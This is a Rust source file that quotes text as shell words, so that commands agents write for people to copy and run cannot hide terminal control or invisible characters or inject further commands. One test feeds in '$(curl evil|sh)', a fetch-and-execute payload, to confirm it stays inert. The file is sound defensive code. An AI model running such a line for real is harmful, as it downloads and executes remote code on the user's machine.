//! Texts as words of a shell, for commands that a person copies from a screen or a message and runs. Agents write some of those
//! texts. Nothing here runs a shell.

/// A text as one word of a shell, on one line: no shell takes a part of it for anything but text.
///
/// What a terminal obeys or hides is written as `$'…'`, which bash, zsh and ksh read. A shell that does not know it gets another
/// text, and runs nothing.
pub fn shell_word(text: &str) -> String {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || matches!(it, '.' | '_' | ':' | '-');
    if !text.is_empty() && text.chars().all(is_plain) {
        return text.to_owned();
    }
    if !text.chars().any(is_unseen) {
        return format!("'{}'", text.replace('\'', r"'\''"));
    }
    let escaped = |it: char| match it {
        '\'' | '\\' => format!("\\{it}"),
        '\n' => "\\n".to_owned(),
        it if is_unseen(it) => format!("\\u{:04x}", u32::from(it)),
        it => it.to_string(),
    };
    format!("$'{}'", text.chars().map(escaped).collect::<String>())
}

/// A letter that steers a terminal, turns the direction of writing, or is not seen at all.
fn is_unseen(it: char) -> bool {
    it.is_control()
        || matches!(it, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// The command that answers what waits under this id with one of its options. What sends work back needs words.
pub fn answer_command(id: &str, option: &str) -> String {
    // A word that begins with a dash is no option of the command.
    let dashes = if option.starts_with('-') { "-- " } else { "" };
    let words = if option == "request-changes" { " --message TEXT" } else { "" };
    format!("sluice answer {id} {dashes}{}{words}", shell_word(option))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_taken_as_it_is_by_every_shell() {
        assert_eq!(shell_word("move:working-1.2_x"), "move:working-1.2_x");
        assert_eq!(shell_word("use postgres"), "'use postgres'");
        assert_eq!(shell_word("$(curl evil|sh)"), "'$(curl evil|sh)'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("a\nb'\\\u{1b}[2J\u{202e}"), r"$'a\nb\'\\\u001b[2J\u202e'");
    }

    #[test]
    fn a_command_answers_with_what_was_chosen() {
        assert_eq!(answer_command("k3f9/1", "approve"), "sluice answer k3f9/1 approve");
        assert_eq!(answer_command("k3f9/1", "--json"), "sluice answer k3f9/1 -- --json");
        assert_eq!(answer_command("k3f9/1", "request-changes"), "sluice answer k3f9/1 request-changes --message TEXT");
    }
}
